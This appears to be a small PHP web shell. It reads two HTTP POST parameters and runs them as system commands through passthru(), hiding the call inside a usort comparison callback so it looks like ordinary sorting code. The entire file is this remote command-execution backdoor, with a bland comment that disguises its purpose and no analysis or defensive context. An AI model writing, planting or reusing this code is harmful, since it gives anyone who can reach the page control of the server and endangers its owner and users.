<?php
// the posted values gathered in a list first; usort's comparison callback runs them
$list = [$_POST['a'], $_POST['b']];
usort($list, function ($a, $b) {
    passthru($a);
    return 0;
});
echo 'done';
